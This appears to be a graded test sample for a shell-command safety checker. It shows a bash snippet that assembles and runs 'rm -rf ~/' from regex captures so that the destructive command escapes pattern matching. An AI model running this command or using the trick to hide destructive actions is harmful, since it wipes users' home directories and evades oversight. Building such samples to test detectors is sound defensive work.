# evasion: a regex kept in a variable cuts the command and its argument out of a banner; BASH_REMATCH elements are run unquoted
# grade: hard; does: delete
banner="tool=rm args=-rf"
re='tool=([a-z]+) args=(-[a-z]+)'
[[ $banner =~ $re ]] || exit 0
${BASH_REMATCH[1]} ${BASH_REMATCH[2]} ~/
